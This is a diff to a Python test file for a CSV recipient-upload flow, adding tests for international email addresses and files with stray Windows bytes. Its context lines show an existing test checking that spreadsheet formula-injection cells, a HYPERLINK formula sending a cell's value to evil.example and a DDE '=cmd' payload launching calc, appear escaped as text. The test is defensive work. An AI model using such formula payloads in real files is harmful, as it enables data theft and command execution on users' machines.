@@ -210,3 +210,44 @@ def test_formula_cells_are_shown_as_text_in_the_summary(recipients_flow: Recipie
     page = text(recipients_flow.upload_fixture("formula_cells.csv"))
     assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1)" in page
     assert "<td>=cmd|&#39; /C calc&#39;!A0</td>" in page
+
+
+def test_international_addresses_are_accepted_with_a_notice_that_they_need_smtputf8(
+    recipients_flow: RecipientsFlow,
+):
+    review = recipients_flow.upload(
+        "email,name\njosé@exämple.com,José\nanna@example.com,Anna\njorg@bücher.example,Jörg\n".encode(),
+        "international.csv",
+    )
+    assert count(review, "accepted") == 3
+    notice = (
+        "1 address needs an SMTP server with SMTPUTF8 (international addresses): it has non-ASCII "
+        "characters before the @."
+    )
+    assert notice in text(review), "jorg@bücher.example needs nothing: its domain goes out as IDNA"
+    saved = recipients_flow.save(review)
+    assert notice in text(saved)
+    assert [row[0] for row in recipients_flow.saved()] == [
+        "josé@exämple.com",
+        "anna@example.com",
+        "jorg@bücher.example",
+    ]
+
+
+def test_a_utf8_file_with_one_stray_windows_byte_is_reviewed_with_its_accents(
+    recipients_flow: RecipientsFlow,
+):
+    data = (
+        "\ufeffemail,name\r\nzoe@example.com,Zoë Ångström-Çelik\r\n".encode()
+        + b"andre@example.com,Andr\xe9\r\n"
+    )
+    review = recipients_flow.upload(data, "mixed.csv")
+    page = text(review)
+    assert "Addresses from column <strong>email</strong>" in page
+    assert "Zoë Ångström-Çelik" in page and "Ã" not in page
+    assert re.search(
+        r"<td>3</td><td><code>andre@example.com</code></td><td>This row holds characters that could not be read",
+        page,
+    )
+    recipients_flow.save(review)
+    assert recipients_flow.saved() == [("zoe@example.com", "Zoë Ångström-Çelik", {})]
